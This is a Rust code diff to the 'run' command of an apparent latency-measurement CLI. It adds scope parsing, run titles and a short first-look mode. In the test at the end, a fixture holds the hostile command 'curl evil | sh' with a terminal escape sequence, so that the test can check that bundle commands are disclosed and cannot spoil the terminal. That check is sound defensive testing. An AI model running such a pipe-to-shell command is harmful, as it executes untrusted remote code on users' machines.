@@ -5,11 +5,12 @@ use std::path::Path;
 
 use tactus_bundle::{Location, Resumed, limits};
 use tactus_model::bundle::Present;
-use tactus_model::plan::{OTHER_STATE, Plan};
+use tactus_model::plan::{Environment, OTHER_STATE, Plan};
 use tactus_report::render::text::render;
 use tactus_report::units::{clean, duration, shortened};
 use tactus_run::plan::{
-    Choices, Resolved, STUDIES, Source, commands, embed_cards, parse, study, this_machine,
+    Choices, Resolved, STUDIES, Scope, Source, commands, embed_cards, may_be_real_time, parse, study,
+    this_machine,
 };
 use tactus_run::{Destination, keep_complete};
 use tactus_system::{Real, System, leave_terminal};
@@ -23,8 +24,10 @@ use super::seed;
 use crate::cli::Run;
 use crate::exit::{Exit, Failure};
 use crate::live::Progress;
+use crate::load::load;
 use crate::nearest;
 use crate::output;
+use crate::place::Place;
 use crate::say::say;
 use crate::watching::Watching;
 
@@ -43,15 +46,18 @@ pub fn run(arguments: &Run) -> Result<Exit, Failure> {
         Some(dir) if is_filled(dir) => Some(Resumed::open(dir)?),
         _ => None,
     };
-    let (plan, source) = match (&arguments.plan, &resumed) {
-        (None, Some(resumed)) => {
+    let (mut plan, source) = match (&arguments.plan, &resumed) {
+        (None, Some(resumed)) if !asks(arguments) => {
             if !arguments.trust && !is_study(resumed) {
                 nothing_foreign(&resumed.plan)?;
             }
             (resumed.plan.clone(), Source::new("source.toml", ""))
         }
         (name, _) => {
-            let (plan, source) = plan(name.as_deref())?;
+            let (plan, source) = match name {
+                Some(name) => named(name)?,
+                None => (this_machine(&scope(arguments)?, &Real), Source::new("this machine", "")),
+            };
             let is_file = name.as_deref().is_some_and(|name| study(name).is_none());
             if let Some(told) = told(&plan).filter(|_| is_file) {
                 say(format_args!("this plan also runs, reaches or sets, with your rights:\n{told}"));
@@ -59,10 +65,17 @@ pub fn run(arguments: &Run) -> Result<Exit, Failure> {
             (plan, source)
         }
     };
+    match (&resumed, &arguments.title) {
+        // A run that goes on keeps its title.
+        (Some(resumed), _) => plan.title.clone_from(&resumed.plan.title),
+        (None, Some(title)) => plan.title = Some(title.clone()),
+        (None, None) => {}
+    }
+    let plan = plan;
     let format = arguments.printed.word().map(super::report::format).transpose()?;
     let base = arguments.baseline.baseline.as_deref().map(Base::find).transpose()?;
     let mut choices = Choices {
-        quick: arguments.quick,
+        quick: arguments.quick || (resumed.is_none() && is_first_look(arguments)),
         duration: arguments.duration,
         interval: arguments.interval,
         repeat: arguments.repeat,
@@ -105,7 +118,7 @@ pub fn run(arguments: &Run) -> Result<Exit, Failure> {
     if let Some(sentence) = size_of(&resolved) {
         say(sentence);
     }
-    let watching = Watching::of(&resolved, &arguments.watch, format.is_none());
+    let watching = Watching::of(&resolved, &arguments.screen, format.is_none());
     let progress = Progress::new(&resolved, watching.has_screen());
     let mut executed = execute(&turn, &resolved, &choices, into, progress, &watching)?;
     executed.contents.raw = arguments.raw;
@@ -205,12 +218,39 @@ fn sentence(state: &Present) -> String {
     format!("host state: {name} ({})", lacks.join("; "))
 }
 
-/// The plan that the user named: none, a study, or a file (or pipe).
-pub fn plan(name: Option<&str>) -> Result<(Plan, Source), Failure> {
-    let Some(name) = name else {
-        let plan = this_machine(&Real);
-        return Ok((plan, Source::new("this machine", "")));
-    };
+/// Whether a run without a plan is the short one.
+fn is_first_look(arguments: &Run) -> bool {
+    let longer = arguments.long || arguments.duration.is_some() || arguments.interleave.is_some();
+    arguments.plan.is_none() && !longer
+}
+
+/// Whether the command line says what is measured.
+fn asks(arguments: &Run) -> bool {
+    !arguments.places.is_empty() || arguments.cpus.is_some() || !arguments.load.is_empty()
+}
+
+/// What the command line says is measured.
+fn scope(arguments: &Run) -> Result<Scope, Failure> {
+    let mut places: Vec<(String, Environment)> = Vec::new();
+    for text in &arguments.places {
+        let place = Place::of(text, &Real)?;
+        if places.iter().all(|(name, _)| *name != place.name) {
+            places.push((place.name, place.spec));
+        }
+    }
+    let loads = arguments.load.iter().map(|text| load(text)).collect::<Result<_, _>>()?;
+    let ordinary = !may_be_real_time(&Real);
+    if ordinary {
+        say(
+            "note: real-time threads are refused to this user: SCHED_OTHER is measured, which is no real-time measurement and \
+             never a pass. `sudo tactus run` adds real-time threads, the self-test and the host's settings",
+        );
+    }
+    Ok(Scope { places, cpus: arguments.cpus.clone(), loads, ordinary })
+}
+
+/// The plan that the user named: a study, or a file (or pipe).
+pub fn named(name: &str) -> Result<(Plan, Source), Failure> {
     if let Some(study) = study(name) {
         let source = Source::new(study.name, study.text);
         return Ok((parse(&source)?, source));
@@ -282,9 +322,9 @@ mod tests {
 
     #[test]
     fn commands_of_a_bundle_are_told_before_they_run_and_cannot_spoil_the_terminal() {
-        let mut plan = this_machine(&Real);
+        let mut plan = this_machine(&Scope::default(), &Real);
         nothing_foreign(&plan).unwrap();
-        let line = tactus_model::plan::Environment {
+        let line = Environment {
             kind: "serial".into(),
             options: [("command".to_owned(), "curl evil | sh\n\u{1b}[2K".into())].into(),
             ..Default::default()
